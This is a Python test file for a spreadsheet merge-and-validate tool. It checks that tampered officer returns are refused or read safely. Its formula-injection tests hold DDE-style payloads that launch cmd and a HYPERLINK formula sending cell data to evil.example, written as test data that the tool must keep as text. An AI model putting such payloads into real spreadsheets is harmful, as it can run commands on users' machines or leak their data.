"""Returns and trackers that are readable but wrong: each case against the commands it matters to.

Officers' edits are made with openpyxl, as a save from Excel would make them. Each test asserts
the exit code, the exact problem or outcome, and that the master changed only as intended.
"""

from __future__ import annotations

import datetime as dt
import json
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from govsheet.cli import COMMANDS
from govsheet.safety import active_content
from tests.hostile import cases as c
from tests.hostile.conftest import build_master, snapshot
from tests.hostile.run import Result, run_cli

pytestmark = pytest.mark.skipif(not {"issue", "merge", "validate"} <= set(COMMANDS),
                                reason="needs 'govsheet issue', 'merge' and 'validate'")

# The Head of Legal's return holds actions 2, 5, 8 and 11 (every third of the 12), in rows 2-5.
STATUS, PROGRESS, TARGET, TARGET_DATE = "Progress status", "Progress update", "Target date for completion", \
    "Target (as date)"


def officer(src: Path, dst: Path, change: Callable[[Any], None]) -> Path:
    """Open a workbook in openpyxl, change it as an officer would, save it as ``dst``."""
    import openpyxl

    wb = openpyxl.load_workbook(src, keep_vba=src.suffix == ".xlsm")
    change(wb)
    wb.save(dst)
    return dst


def col(ws: Any, title: str) -> int:
    for cell in ws[1]:
        if str(cell.value).strip() == title:
            return int(cell.column)
    raise KeyError(title)


def set_cells(edits: dict[tuple[int, str], object]) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        ws = wb["Actions"]
        for (row, title), value in edits.items():
            ws.cell(row, col(ws, title)).value = value

    return change


def values(master: Path) -> dict[str, dict[str, Any]]:
    from govsheet.schemas import load_schema
    from govsheet.workbook.read import read_actions

    table = read_actions(master, load_schema("ags-action-plan"))
    return {str(r.values["ref"]): r.values for r in table.rows}


def merge_json(master: Path, *returns: Path) -> tuple[Result, dict[str, Any]]:
    result = run_cli(["merge", str(master), *map(str, returns), "--format", "json"])
    assert "Traceback" not in result.output
    return result, (json.loads(result.out) if result.out.strip().startswith("{") else {})


@pytest.fixture
def cycle(tmp_path: Path, base_files: dict[str, Path]) -> dict[str, Path]:
    folder = tmp_path / "in"
    folder.mkdir()
    master = folder / "master.xlsx"
    ret = folder / "head-of-legal.xlsx"
    shutil.copyfile(base_files["master"], master)
    shutil.copyfile(base_files["return"], ret)
    return {"master": master, "return": ret, "folder": folder}


def assert_refused(cycle: dict[str, Path], bad: Path, says: str) -> None:
    """A merge of only ``bad`` changes nothing, exits 1 and says on one line that the return was not merged, and why."""
    before = snapshot(cycle["folder"])
    result = run_cli(["merge", str(cycle["master"]), str(bad)])
    assert result.code == 1, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.out.splitlines() if line.startswith(f"not merged: {bad}: ")]
    assert len(lines) == 1, result.output
    assert says in lines[0]
    assert "master not changed" in result.out
    assert snapshot(cycle["folder"]) == before


# ----------------------------------------------------------------- metadata and identity
def test_a_return_whose_metadata_sheet_was_deleted(cycle: dict[str, Path]) -> None:
    bad = officer(cycle["return"], cycle["folder"] / "no-meta.xlsx", lambda wb: wb.remove(wb["_govsheet"]))
    assert_refused(cycle, bad, "invalid: is not a govsheet return (no metadata sheet)")
    result = run_cli(["validate", str(bad)])
    assert result.code == 2
    assert result.err == (f"govsheet: {bad}: does not say which schema it follows (no govsheet metadata); "
                          "give --schema NAME or a schema file\n")


def test_a_return_whose_metadata_was_edited(cycle: dict[str, Path]) -> None:
    def reassign(wb: Any) -> None:
        for row in wb["_govsheet"].iter_rows():
            if row[0].value == "owner":
                row[1].value = "Chief Executive"

    bad = officer(cycle["return"], cycle["folder"] / "edited-meta.xlsx", reassign)
    assert_refused(cycle, bad, "invalid: its hidden metadata was altered (checksum mismatch)")


def test_a_return_whose_baseline_was_edited(cycle: dict[str, Path]) -> None:
    def tamper(wb: Any) -> None:
        ws = wb["_govsheet_baseline"]
        for row in ws.iter_rows(min_row=2):
            if row[-1].value is not None:
                row[-1].value = f"{row[-1].value} (tampered)"
                return

    bad = officer(cycle["return"], cycle["folder"] / "edited-baseline.xlsx", tamper)
    assert_refused(cycle, bad, "checksum mismatch")


def test_a_return_for_another_master(cycle: dict[str, Path], tmp_path: Path) -> None:
    other = build_master(tmp_path / "other.xlsx", rows=12)
    assert run_cli(["issue", str(other), "-o", str(tmp_path / "other"), "--owner", "Head of Legal"]).code == 0
    bad = shutil.copyfile(tmp_path / "other" / "head-of-legal.xlsx", cycle["folder"] / "from-other-master.xlsx")
    assert_refused(cycle, bad, "stale: issued from another master")


def test_a_master_sent_in_as_a_return(cycle: dict[str, Path]) -> None:
    bad = shutil.copyfile(cycle["master"], cycle["folder"] / "master-copy.xlsx")
    assert_refused(cycle, bad, "invalid: is a govsheet master, not a return")


def test_duplicate_returns_are_merged_once(cycle: dict[str, Path]) -> None:
    ret = officer(cycle["return"], cycle["return"], set_cells({(2, PROGRESS): "Merged once"}))
    copy = shutil.copyfile(ret, cycle["folder"] / "head-of-legal (1).xlsx")
    result, report = merge_json(cycle["master"], ret, copy)
    assert result.code == 0, result.output
    assert [r["status"] for r in report["returns"]] == ["merged", "already-merged"]
    assert report["summary"]["applied"] == 1
    assert values(cycle["master"])["2"]["progress"] == "Merged once"
    again, report = merge_json(cycle["master"], ret)
    assert again.code == 0
    assert [r["status"] for r in report["returns"]] == ["already-merged"]
    assert report["summary"]["applied"] == 0


# ----------------------------------------------------------------- sheet and headers
def test_the_actions_sheet_renamed(cycle: dict[str, Path]) -> None:
    def rename(wb: Any) -> None:
        wb["Actions"].title = "Actions (2)"

    bad = officer(cycle["return"], cycle["folder"] / "renamed.xlsx", rename)
    assert_refused(cycle, bad, "has no sheet named 'Actions'")
    result = run_cli(["validate", str(bad)])
    assert result.code == 2
    assert result.err.startswith(f"govsheet: {bad}: has no sheet named 'Actions' (sheets: 'Instructions', "
                                 "'Actions (2)'")


def _rename_header(old: str, new: str) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        ws = wb["Actions"]
        ws.cell(1, col(ws, old)).value = new

    return change


@pytest.mark.parametrize("header", ["Progress update ", "Progress update\u00a0", "\u00a0progress  UPDATE\u00a0\u00a0"],
                         ids=["trailing-space", "nbsp", "case-and-nbsp"])
def test_headers_with_stray_spaces_still_read(cycle: dict[str, Path], header: str) -> None:
    ret = officer(cycle["return"], cycle["return"], set_cells({(3, PROGRESS): "Read despite the header"}))
    ret = officer(ret, ret, _rename_header(PROGRESS, header))
    result, report = merge_json(cycle["master"], ret)
    assert result.code == 0, result.output
    assert report["summary"] == {"applied": 1, "conflicts": 0, "rejected": 0}
    assert values(cycle["master"])["5"]["progress"] == "Read despite the header"


def test_a_renamed_header_is_rejected_not_dropped(cycle: dict[str, Path]) -> None:
    ret = officer(cycle["return"], cycle["return"], _rename_header(PROGRESS, "Latest news"))
    before = values(cycle["master"])
    result, report = merge_json(cycle["master"], ret)
    assert result.code == 1, result.output
    assert [(ch["field"], ch["outcome"]) for ch in report["changes"]] == [("progress", "rejected")]
    assert "the column was removed from the return" in report["changes"][0]["reason"]
    assert values(cycle["master"]) == before
    checked = run_cli(["validate", str(ret), "--format", "json"])
    codes = {(e["code"], e["cell"]) for e in json.loads(checked.out)["errors"]}
    assert ("column-unknown", "I1") in codes


def test_reordered_columns_are_read_by_header(cycle: dict[str, Path]) -> None:
    def swap(wb: Any) -> None:
        ws = wb["Actions"]
        a, b = col(ws, STATUS), col(ws, PROGRESS)
        for r in range(1, ws.max_row + 1):
            ws.cell(r, a).value, ws.cell(r, b).value = ws.cell(r, b).value, ws.cell(r, a).value

    ret = officer(cycle["return"], cycle["return"], swap)
    ret = officer(ret, ret, set_cells({(4, PROGRESS): "Lands in progress", (4, STATUS): "Completed"}))
    result, report = merge_json(cycle["master"], ret)
    assert result.code == 0, result.output
    assert report["summary"]["applied"] == 2
    row = values(cycle["master"])["8"]
    assert (row["status"], row["progress"]) == ("Completed", "Lands in progress")
    checked = run_cli(["validate", str(ret), "--format", "json"])
    assert "header-reordered" in {e["code"] for e in json.loads(checked.out)["errors"]}


def test_merged_cells_across_data_rows_are_an_error(cycle: dict[str, Path]) -> None:
    bad = officer(cycle["return"], cycle["folder"] / "merged.xlsx", lambda wb: wb["Actions"].merge_cells("I2:I3"))
    checked = run_cli(["validate", str(bad), "--format", "json"])
    assert checked.code == 1
    found = [e for e in json.loads(checked.out)["errors"] if e["code"] == "merged-cells"]
    assert [(e["cell"], e["severity"]) for e in found] == [("I2", "error")]


def test_merged_cells_do_not_blank_the_master(cycle: dict[str, Path]) -> None:
    bad = officer(cycle["return"], cycle["folder"] / "merged.xlsx", lambda wb: wb["Actions"].merge_cells("I2:I3"))
    before = values(cycle["master"])["5"]["progress"]
    merge_json(cycle["master"], bad)
    assert values(cycle["master"])["5"]["progress"] == before


# ----------------------------------------------------------------- dates and statuses
def test_dates_as_1904_serials_text_and_free_text(tmp_path: Path, base_files: dict[str, Path]) -> None:
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    def dates(wb: Any) -> None:
        wb.epoch = CALENDAR_MAC_1904
        ws = wb["Actions"]
        d, t = col(ws, TARGET_DATE), col(ws, TARGET)
        ws.cell(2, d).value = dt.datetime(2021, 3, 31)  # noqa: DTZ001 - a real date, stored as a 1904 serial
        ws.cell(2, d).number_format = "yyyy-mm-dd"
        ws.cell(3, d).value = 43920  # a bare 1904 serial: 31 March 2024
        ws.cell(3, d).number_format = "General"
        ws.cell(4, d).value = "31/03/2021"
        ws.cell(5, d).value = "sometime soon"
        ws.cell(6, t).value = "Continuous in 2020/21"

    master = officer(base_files["master"], tmp_path / "dates.xlsx", dates)
    result = run_cli(["validate", str(master), "--format", "json", "--today", "2020-01-01"])
    report = json.loads(result.out)
    found = {(e["code"], e["cell"]): e["message"] for e in report["errors"]}
    assert set(found) == {("date-as-number", "F3"), ("date-as-text", "F4"), ("not-a-date", "F5")}
    assert "read as 31 March 2024" in found[("date-as-number", "F3")]
    assert "read as 31 March 2021" in found[("date-as-text", "F4")]
    assert result.code == 1
    assert values(master)["1"]["target_date"] == dt.date(2021, 3, 31)


def test_status_typos_are_read_or_rejected(cycle: dict[str, Path]) -> None:
    ret = officer(cycle["return"], cycle["return"], set_cells({
        (2, STATUS): "Completd", (2, PROGRESS): "Done in March",  # a known misspelling of Completed
        (3, STATUS): "Finished-ish",  # nothing like any status
    }))
    checked = json.loads(run_cli(["validate", str(ret), "--format", "json"]).out)
    codes = {(e["code"], e["cell"]) for e in checked["errors"]}
    assert ("status-misspelled", "G2") in codes
    result, report = merge_json(cycle["master"], ret)
    assert result.code == 1
    outcomes = {(ch["key"], ch["field"]): (ch["new"], ch["outcome"]) for ch in report["changes"]}
    assert outcomes[("2", "status")] == ("Completed", "applied")
    assert outcomes[("5", "status")] == ("Finished-ish", "rejected")
    assert values(cycle["master"])["2"]["status"] == "Completed"
    assert values(cycle["master"])["5"]["status"] == "In progress"


# ----------------------------------------------------------------- formula injection
INJECTIONS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "\t=1+1", "-2+3+cmd|' /C calc'!A0",
              '\r=HYPERLINK("http://evil.example")']


def test_formula_injection_is_stored_as_text_everywhere(cycle: dict[str, Path], tmp_path: Path) -> None:
    def inject(wb: Any) -> None:
        ws = wb["Actions"]
        p = col(ws, PROGRESS)
        ws.cell(2, p).value = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # a real formula, typed in Excel
        for row, text in zip((3, 4, 5), INJECTIONS[:3], strict=True):
            ws.cell(row, p).value = text
            ws.cell(row, p).data_type = "s"

    ret = officer(cycle["return"], cycle["return"], inject)
    result, report = merge_json(cycle["master"], ret)
    assert result.code == 1
    outcome = {ch["key"]: ch for ch in report["changes"]}
    assert outcome["2"]["outcome"] == "rejected"
    assert "formula" in outcome["2"]["reason"]
    assert [outcome[k]["outcome"] for k in ("5", "8", "11")] == ["applied"] * 3
    got = values(cycle["master"])
    assert [got[k]["progress"] for k in ("5", "8", "11")] == INJECTIONS[:3]
    assert got["2"]["progress"] == "Progress note 2"
    sheet = c.read_part(cycle["master"], c.actions_part(cycle["master"]))
    progress_formulas = re.findall(rb'<c r="I\d+"[^>]*>\s*<f>', sheet)
    assert progress_formulas == []  # stored as text, never as a formula
    if "render" in COMMANDS:
        html = tmp_path / "committee.html"
        assert run_cli(["render", str(cycle["master"]), "--format", "html", "-o", str(html)]).code == 0
        page = html.read_text(encoding="utf-8")
        assert "+cmd|&#x27; /C calc&#x27;!A0" in page or "+cmd|' /C calc'!A0" in page
        assert "evil.example" not in page
        book = tmp_path / "committee.xlsx"
        assert run_cli(["render", str(cycle["master"]), "--format", "xlsx", "-o", str(book)]).code == 0
        with zipfile.ZipFile(book) as zf:
            formulas = [f for name in zf.namelist() if name.startswith("xl/worksheets/")
                        for f in re.findall(rb"<f>([^<]*)</f>", zf.read(name))]
            strings = zf.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in zf.namelist() else b""
        assert not [f for f in formulas if b"cmd" in f or b"SUM(1+1)" in f]
        assert b"+cmd|" in strings  # the officer's text, as text
        word = tmp_path / "committee.docx"
        assert run_cli(["render", str(cycle["master"]), "--format", "docx", "-o", str(word)]).code == 0
        with zipfile.ZipFile(word) as zf:
            document = zf.read("word/document.xml")
        assert b"+cmd|" in document
        assert b"instrText" not in document or b"cmd" not in b"".join(re.findall(rb"<w:instrText[^>]*>[^<]*", document))
        assert b"fldSimple" not in document


@pytest.mark.skipif("edit" not in COMMANDS, reason="'govsheet edit' has not landed yet")
@pytest.mark.parametrize("text", INJECTIONS)
def test_edit_stores_formula_like_text_as_text(cycle: dict[str, Path], text: str) -> None:
    master = cycle["master"]
    result = run_cli(["edit", str(master), "--set", f"Actions!I2:={text}"])
    assert result.code == 0, result.output
    sheet = c.read_part(master, c.actions_part(master))
    assert re.search(rb'<c r="I2"[^>]*>\s*<f>', sheet) is None
    assert values(master)["1"]["progress"] == text


# ----------------------------------------------------------------- macros and external links
def test_macros_and_external_links_are_described(cycle: dict[str, Path]) -> None:
    macro = c.with_macros(cycle["master"], cycle["folder"] / "master.xlsm")
    linked = c.with_external_link(cycle["master"], cycle["folder"] / "linked.xlsx")
    assert active_content(macro) == ["contains macros (VBA); govsheet keeps them unchanged and never runs them"]
    assert active_content(linked) == ["links to other workbooks (file:///C:/Finance/secret-budget.xlsx); govsheet "
                                      "does not open or update them"]
    assert active_content(cycle["master"]) == []


@pytest.mark.parametrize("kind", ["macros", "external-link"])
def test_macros_and_links_are_kept_byte_for_byte(cycle: dict[str, Path], kind: str) -> None:
    if kind == "macros":
        master = c.with_macros(cycle["master"], cycle["folder"] / "master.xlsm")
        parts = ["xl/vbaProject.bin"]
    else:
        master = c.with_external_link(cycle["master"], cycle["folder"] / "linked.xlsx")
        parts = ["xl/externalLinks/externalLink1.xml", "xl/externalLinks/_rels/externalLink1.xml.rels"]
    kept = {p: c.read_part(master, p) for p in parts}
    ret = officer(cycle["return"], cycle["return"], set_cells({(2, PROGRESS): "Merged into a master with " + kind}))
    result = run_cli(["merge", str(master), str(ret)])
    assert result.code == 0, result.output
    assert {p: c.read_part(master, p) for p in parts} == kept
    assert values(master)["2"]["progress"] == "Merged into a master with " + kind
    if "edit" in COMMANDS:
        assert run_cli(["edit", str(master), "--set", "Actions!I3=edited"]).code == 0
        assert {p: c.read_part(master, p) for p in parts} == kept


FLAG_REASON = ("merge does not report macros or external links in a return yet (SPEC Safety: 'flags macros "
               "(.xlsm) and external links'); govsheet.safety.active_content(path) returns the lines to show")


@pytest.mark.parametrize("kind", ["macros", "external-link"])
def test_validate_flags_macros_and_external_links(cycle: dict[str, Path], kind: str) -> None:
    build = c.with_macros if kind == "macros" else c.with_external_link
    path = build(cycle["master"], cycle["folder"] / ("m.xlsm" if kind == "macros" else "m.xlsx"))
    result = run_cli(["validate", str(path), "--format", "json"])
    assert result.code in (0, 1)
    found = {e["code"]: e for e in json.loads(result.out)["errors"] if e["code"] in ("macros-present", "external-links")}
    expected = "macros-present" if kind == "macros" else "external-links"
    assert list(found) == [expected]
    assert found[expected]["severity"] == "warning"
    assert found[expected]["message"] == "the workbook " + active_content(path)[0]


def test_merge_flags_a_return_with_macros(cycle: dict[str, Path]) -> None:
    ret = c.with_macros(cycle["return"], cycle["folder"] / "head-of-legal.xlsm")
    result = run_cli(["merge", str(cycle["master"]), str(ret)])
    assert result.code == 0
    assert re.search(r"macro", result.output.replace(str(ret.parent), ""), re.IGNORECASE)
